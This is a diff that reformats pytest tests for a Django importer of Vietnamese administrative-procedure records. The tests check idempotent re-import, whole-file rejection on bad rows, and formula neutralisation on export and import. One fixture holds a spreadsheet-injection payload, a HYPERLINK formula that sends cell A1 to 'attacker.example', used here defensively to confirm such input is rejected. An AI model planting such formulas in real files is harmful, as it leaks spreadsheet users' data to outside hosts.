@@ -16,13 +16,22 @@ from shared_apps.catalogue.models import Procedure, ProcedureVersion
 pytestmark = pytest.mark.django_db
 
 GOOD = {
-    "ma_thu_tuc": "1.004227", "ten_thu_tuc": "Đăng ký khai tử", "ma_linh_vuc": "ho-tich", "ten_linh_vuc": "Hộ tịch",
-    "cap_thuc_hien": "commune", "kenh_nop": "in_person;online;post", "muc_do": "full", "thoi_han": "1",
-    "don_vi_thoi_han": "working_days", "gio_chot": "15:00",
+    "ma_thu_tuc": "1.004227",
+    "ten_thu_tuc": "Đăng ký khai tử",
+    "ma_linh_vuc": "ho-tich",
+    "ten_linh_vuc": "Hộ tịch",
+    "cap_thuc_hien": "commune",
+    "kenh_nop": "in_person;online;post",
+    "muc_do": "full",
+    "thoi_han": "1",
+    "don_vi_thoi_han": "working_days",
+    "gio_chot": "15:00",
     "can_cu_phap_ly": "Luật Hộ tịch số 60/2014/QH13\nNghị định 123/2015/NĐ-CP",
     "thanh_phan_ho_so": "Tờ khai đăng ký khai tử | original | 1 | required\nGiấy báo tử | original | 1 | required",
-    "phi_le_phi": "Lệ phí đăng ký khai tử | 0 | UBND cấp xã", "hieu_luc_tu": "01/07/2025",
-    "nguon": "Quyết định công bố TTHC lĩnh vực hộ tịch", "ghi_chu": "",
+    "phi_le_phi": "Lệ phí đăng ký khai tử | 0 | UBND cấp xã",
+    "hieu_luc_tu": "01/07/2025",
+    "nguon": "Quyết định công bố TTHC lĩnh vực hộ tịch",
+    "ghi_chu": "",
 }
 
 
@@ -73,9 +82,13 @@ def test_reimporting_the_same_file_changes_nothing_and_a_changed_row_makes_a_new
     catalogue_import(data=csv_bytes([GOOD]), filename="tt.csv", acting_user=None)
     again = catalogue_import(data=csv_bytes([GOOD]), filename="tt.csv", acting_user=None)
     assert again.unchanged == ["1.004227"] and not again.created and not again.updated
-    changed = catalogue_import(data=csv_bytes([{**GOOD, "thoi_han": "2"}]), filename="tt.csv", acting_user=None)
+    changed = catalogue_import(
+        data=csv_bytes([{**GOOD, "thoi_han": "2"}]), filename="tt.csv", acting_user=None
+    )
     assert changed.updated == ["1.004227"]
-    numbers = sorted(ProcedureVersion.objects.filter(procedure__national_code="1.004227").values_list("number", flat=True))
+    numbers = sorted(
+        ProcedureVersion.objects.filter(procedure__national_code="1.004227").values_list("number", flat=True)
+    )
     assert numbers == [1, 2]
 
 
@@ -104,8 +117,9 @@ def test_an_xlsx_file_with_a_bad_row_imports_nothing():
 
 
 def test_export_neutralises_spreadsheet_formulas():
-    catalogue_import(data=csv_bytes([{**GOOD, "ghi_chu": "=HYPERLINK(\"http://x\")"}]), filename="tt.csv",
-                     acting_user=None)
+    catalogue_import(
+        data=csv_bytes([{**GOOD, "ghi_chu": '=HYPERLINK("http://x")'}]), filename="tt.csv", acting_user=None
+    )
     text = catalogue_export_csv()
     assert "'=HYPERLINK" in text
 
@@ -151,7 +165,9 @@ def test_a_formula_in_an_uploaded_sheet_is_never_evaluated_or_stored():
     evil = {**GOOD, "ten_thu_tuc": '=HYPERLINK("http://attacker.example/?"&A1,"Bấm vào đây")'}
     with pytest.raises(ImportFailed) as info:
         catalogue_import(data=_xlsx([evil]), filename="tt.xlsx", acting_user=None)
-    assert [row for row, _message in info.value.errors] == [2]  # read as its (absent) value: a clear row error
+    assert [row for row, _message in info.value.errors] == [
+        2
+    ]  # read as its (absent) value: a clear row error
     assert Procedure.objects.count() == 0
 
 
